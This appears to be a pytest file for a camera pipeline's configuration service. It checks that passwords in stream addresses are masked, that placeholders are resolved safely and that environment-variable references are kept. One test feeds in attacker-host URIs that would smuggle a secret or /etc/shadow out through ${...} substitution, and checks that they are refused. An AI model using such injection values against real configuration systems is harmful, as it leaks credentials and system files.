"""No secret leaves the configuration, and none comes in with a change."""

from pathlib import Path

import msgspec
import pytest

from pipeline import redact
from pipeline.credentials.address_secrets import secrets_of
from stages.config import MOST_SOURCES
from stages.line.configuration.masks import to_content, unmask
from stages.services import line_control as told
from tests.stages.line.configuration.kept import Kept

# As tests/test_passwords.py has them, of those that a start takes.
ADDRESSES = [
    "rtmp://admin:S3cretXYZ@127.0.0.1:1/x",
    "rtsp://admin:S3cretXYZ@127.0.0.1:1/x",
    "rtsp://admin:S3cr etXYZ@127.0.0.1/x",
    "rtsp://admin:S3cr/etXYZ@127.0.0.1/x",
    "http://127.0.0.1:1/v?pwd=S3cretXYZ",
    "rtsp://admin:S3cr: etXYZ@127.0.0.1",
    "http://admin:S3cretXYZ@127.0.0.1:1/" + "x" * 300,
    "rtsp://127.0.0.1:1/user=admin_password=S3cretXYZ_channel=1",
    "rtsp://admin:S3cr%40etXYZ@127.0.0.1:1/s",
]


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_password_is_shown_and_what_is_sent_back_keeps_it(
    tmp_path: Path, tiny_model: Path, address: str
) -> None:
    text = msgspec.json.encode({"sources": [{"uri": address, "name": "gate"}]}).decode()
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    read = kept.ask(told.ReadConfiguration())
    for shown in (read, kept.patch({"sources": [{"uri": "scene://street"}]}, mode="plan")):
        assert "S3cr" not in str(shown)
        assert "etXYZ" not in str(shown)
    body = read.body["configuration"]
    done = kept.whole({**body, "track": {**body["track"], "lost_s": 5}})
    assert [each["key"] for each in done.body["changes"]] == ["track.lost_s"]
    assert kept.in_force.config.sources[0].uri == address
    assert msgspec.json.encode(address).decode() in kept.text


def test_a_placeholder_that_stands_for_nothing_is_refused(tmp_path: Path, tiny_model: Path) -> None:
    text = "sources:\n- {uri: 'rtsp://admin:S3cret99@127.0.0.1:1/1', name: gate}\n"
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    moved = [{"uri": "rtsp://***@192.0.2.1/1", "name": "gate"}]
    refused = kept.patch({"sources": moved}, mode="plan")
    assert refused.status == 422
    assert refused.body["errors"][0]["key"] == "sources[0].uri"
    assert "none is shown so" in refused.body["detail"]
    stolen = kept.patch({"record": {"jsonl": "rtsp://***@127.0.0.1:1/1"}}, mode="plan")
    assert stolen.status == 422
    # A camera that stands in another place is known by its address.
    two = [{"uri": "scene://street"}, {"uri": "rtsp://***@127.0.0.1:1/1", "name": "gate"}]
    plan = kept.patch({"sources": two}, mode="plan")
    assert plan.status == 200, plan.body
    assert "S3cret99" not in str(plan)


@pytest.fixture
def looked_at(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Texts in which secrets were looked for."""
    texts = list[str]()

    def look(text: str) -> frozenset[str]:
        texts.append(text)
        return secrets_of(text)

    monkeypatch.setattr("pipeline.redact.secrets_of", look)
    monkeypatch.setattr(redact, "_known", redact.KnownSecrets())
    monkeypatch.setattr(redact, "_learned", set[str]())
    return texts


def test_of_more_cameras_than_there_may_be_the_first_are_looked_at(
    kept: Kept, looked_at: list[str]
) -> None:
    sources = [{"uri": f"rtsp://admin:S3cr/et{i}@cam{i}/1"} for i in range(5000)]
    refused = kept.patch({"sources": sources}, mode="check")
    assert (refused.status, refused.body["errors"][0]["key"]) == (422, "sources")
    assert "S3cr" not in str(refused)
    assert sum("S3cr" in text for text in looked_at) == MOST_SOURCES


@pytest.mark.parametrize(
    ("patch", "said"),
    [
        ({"log": [f"rtsp://admin:S3cr/et{i:040}@cam{i}/1" for i in range(5000)]},
         "expected at most 131072 characters in passwords of addresses, got more"),
        ({"log": " ".join(f"http://cam{i}/?password=S3cret{i}" for i in range(5000))},
         "expected addresses of at most 8192 characters, got a text of 177779"),
    ],
)  # fmt: skip
def test_more_passwords_than_a_line_may_have_are_refused_before_all_are_learned(
    kept: Kept, looked_at: list[str], patch: dict[str, object], said: str
) -> None:
    refused = kept.patch(patch, mode="check")
    assert (refused.status, refused.body["detail"]) == (422, said)
    assert sum("S3cr" in text for text in looked_at) < 1500
    assert redact._known._pattern is None


def test_what_was_shown_is_compared_with_what_is_in_force_once(
    tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cameras = [{"uri": f"rtsp://admin:S3cret{i}@cam{i}:1/1", "name": f"c{i}"} for i in range(30)]
    text = msgspec.json.encode({"sources": cameras}).decode()
    kept = Kept(tmp_path / "line.yaml", tiny_model, text)
    counted = list[str]()

    def count(text: str) -> str:
        counted.append(text)
        return redact.redact(text)

    monkeypatch.setattr("stages.line.configuration.masks.redact", count)
    known = to_content(kept.in_force.config)
    shown = {"sources": [{"uri": "rtsp://***@cam7:1/1"}] * 2000}
    assert unmask(shown, known)["sources"] == [{"uri": cameras[7]["uri"]}] * 2000
    assert len(counted) < 2000 + 5000


REFERRING = """\
sources:
  - {uri: 'rtsp://me:${GATE_PASSWORD}@cam/1', name: gate}  # the gate
"""


@pytest.fixture
def referring(tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch) -> Kept:
    monkeypatch.setenv("GATE_PASSWORD", "S3cret")
    return Kept(tmp_path / "line.yaml", tiny_model, REFERRING)


def test_the_file_keeps_references_and_nobody_is_told_what_they_stand_for(referring: Kept) -> None:
    shown = referring.ask(told.ReadConfiguration())
    assert "S3cret" not in str(shown)
    done = referring.whole({**shown.body["configuration"], "track": {"lost_s": 3}})
    assert done.body["applied"], done.body
    assert "S3cret" not in str(done)
    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
    assert "S3cret" not in referring.text
    added = {"uri": "rtsp://other/1", "name": "other"}
    sources = [*referring.ask(told.ReadConfiguration()).body["configuration"]["sources"], added]
    assert referring.patch({"sources": sources}).body["saved"]
    assert "'rtsp://me:${GATE_PASSWORD}@cam/1'" in referring.text
    capture = referring.told[-1].processes[0]
    assert capture.options["address"]["location"] == "rtsp://me:S3cret@cam/1"


@pytest.mark.parametrize(
    "uri", ["http://attacker/${GATE_PASSWORD}", "http://attacker/?${file:/etc/shadow}"]
)
def test_nobody_has_a_secret_sent_to_him_over_http(referring: Kept, uri: str) -> None:
    refused = referring.patch({"sources": [{"uri": uri, "name": "gate"}]})
    assert refused.status == 422
    assert refused.body["detail"] == (
        "sources[0].uri: expected no ${...} but those that are in force: others are taken from the "
        "configuration file alone"
    )
    assert referring.text == REFERRING


def test_a_secret_that_changed_is_read_with_the_configuration(
    referring: Kept, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GATE_PASSWORD", "N3wS3cret")
    referring.in_force.reload()
    (capture,) = (each for each in referring.told[-1].processes if each.is_source)
    assert capture.options["address"]["location"] == "rtsp://me:N3wS3cret@cam/1"
